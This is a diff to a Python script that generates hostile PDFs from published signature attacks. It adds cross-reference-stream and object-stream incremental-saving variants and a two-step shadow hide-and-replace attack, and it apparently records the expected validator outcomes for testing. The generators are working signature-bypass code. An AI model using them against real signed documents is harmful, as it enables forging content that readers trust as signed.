@@ -2,6 +2,8 @@
 """Builds hostile PDFs from the published attack classes on PDF signatures.
 
 Usage: make-attacks.py SIGNED.pdf UNSIGNED.pdf OUTDIR [CERTIFIED-P2.pdf CERTIFIED-P3.pdf]
+       make-attacks.py --shadow-base UNSIGNED.pdf BASE.pdf   (to be signed, then:)
+       make-attacks.py --shadow-redirect SIGNED-BASE.pdf OUTDIR
 
 SIGNED.pdf has one signature covering the whole file (classic xref table);
 UNSIGNED.pdf is a plain one-page document. Every attack is written to
@@ -21,8 +23,8 @@ OUT = None
 EXPECTED = []
 
 
-def qpdf(*args):
-    return subprocess.run(["qpdf", *args], capture_output=True, text=True, check=False).stdout
+def qpdf(*args, binary=False):
+    return subprocess.run(["qpdf", *args], capture_output=True, text=not binary, check=False).stdout
 
 
 def trailer_info(path):
@@ -233,8 +235,101 @@ def swa_attacks(signed):
     write("tampered-signed-byte", bytes(tampered), "INVALID")
 
 
+def add_stream_update(data, objects, path_for_info, in_object_stream=False):
+    """Appends an incremental update indexed by a cross-reference stream,
+    the objects either plain or packed into an object stream."""
+    size, root, info = trailer_info(path_for_info)
+    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
+    entries = {}
+    nums = sorted(objects)
+    if in_object_stream:
+        packed = max([size] + [n + 1 for n in nums])
+        head, body = b"", b""
+        for i, num in enumerate(nums):
+            head += b"%d %d " % (num, len(body))
+            body += objects[num] + b"\n"
+            entries[num] = (2, packed, i)
+        entries[packed] = (1, len(out), 0)
+        out += b"%d 0 obj\n" % packed + stream(head + body, b" /Type /ObjStm /N %d /First %d" % (len(nums), len(head))) + b"\nendobj\n"
+    else:
+        for num in nums:
+            entries[num] = (1, len(out), 0)
+            out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
+    xref_num = max([size] + [n + 1 for n in entries])
+    entries[xref_num] = (1, len(out), 0)
+    index, rows = [], b""
+    for num in sorted(entries):
+        kind, a, b = entries[num]
+        index += [b"%d 1" % num]
+        rows += bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")
+    extra = b" /Type /XRef /Size %d /Root %d 0 R /Prev %d /W [1 4 2] /Index [%s]" % (
+        xref_num + 1, root, last_startxref(data), b" ".join(index))
+    if info:
+        extra += b" /Info " + info.encode()
+    xref = len(out)
+    out += b"%d 0 obj\n" % xref_num + stream(rows, extra) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+def stream_update_attacks(signed, path):
+    """The Incremental Saving Attack written the way PDF 1.5 writers save:
+    a cross-reference stream, and objects hidden in an object stream."""
+    page, contents = first_page(path)
+    write("isa-xref-stream", add_stream_update(signed, {contents[0]: stream(OVERLAY)}, path), "MODIFIED")
+    page_dict = show(path, page)
+    rotated = re.sub(r"/Rotate \d+", "", page_dict)
+    write("isa-object-stream-page", add_stream_update(signed, {page: dict_with(rotated, "/Rotate 90")}, path, True),
+          "MODIFIED")
+    write("isa-object-stream-content",
+          add_stream_update(signed, {contents[0]: b"[]"}, path, True), "MODIFIED")
+
+
+def shadow_base(unsigned_path, out_path):
+    """Hide-and-replace, step 1: before signing, the page's content object
+    is written twice; the hidden first copy draws other text. Signers sign
+    both, viewers show the second."""
+    data = open(unsigned_path, "rb").read()
+    _, contents = first_page(unsigned_path)
+    num = contents[0]
+    hidden = add_update(data, {num: stream(OVERLAY)}, unsigned_path)
+    shown = qpdf("--show-object=%d" % num, "--raw-stream-data", unsigned_path, binary=True)
+    head = show(unsigned_path, num).replace("Object is stream.  Dictionary:", "").strip()
+    body = head.encode() + b"\nstream\n" + shown + b"\nendstream"
+    tmp = out_path + ".tmp"
+    with open(tmp, "wb") as f:
+        f.write(hidden)
+    with open(out_path, "wb") as f:
+        f.write(add_update(hidden, {num: body}, tmp))
+    os.unlink(tmp)
+
+
+def shadow_redirect(signed_path, out_dir):
+    """Hide-and-replace, step 2: after signing, an update of nothing but a
+    cross-reference entry points the content object at the hidden copy."""
+    global OUT
+    OUT = out_dir
+    signed = open(signed_path, "rb").read()
+    size, root, info = trailer_info(signed_path)
+    _, contents = first_page(signed_path)
+    num = contents[0]
+    hidden = next(m.start() + 1 for m in re.finditer(b"\n%d 0 obj" % num, signed)
+                  if OVERLAY in signed[m.start():m.start() + 200])
+    xref = len(signed)
+    trailer = b"/Size %d /Root %d 0 R /Prev %d" % (size, root, last_startxref(signed))
+    if info:
+        trailer += b" /Info " + info.encode()
+    update = b"xref\n%d 1\n%010d 00000 n\r\ntrailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (num, hidden, trailer, xref)
+    write("shadow-xref-redirect", signed + update, "MODIFIED")
+    with open(os.path.join(OUT, "expected.txt"), "a") as f:
+        f.write("\n".join(EXPECTED) + "\n")
+
+
 def main():
     global OUT, OUT_SIGNED
+    if sys.argv[1] == "--shadow-base":
+        return shadow_base(sys.argv[2], sys.argv[3])
+    if sys.argv[1] == "--shadow-redirect":
+        return shadow_redirect(sys.argv[2], sys.argv[3])
     signed_path, unsigned_path, OUT = sys.argv[1:4]
     OUT = OUT
     OUT_SIGNED = signed_path
@@ -244,6 +339,7 @@ def main():
     isa_attacks(signed, signed_path)
     usf_attacks(unsigned, unsigned_path)
     swa_attacks(signed)
+    stream_update_attacks(signed, signed_path)
     if len(sys.argv) > 5:
         certification_attacks(sys.argv[4], sys.argv[5])
     write("empty", b"", "ERROR")
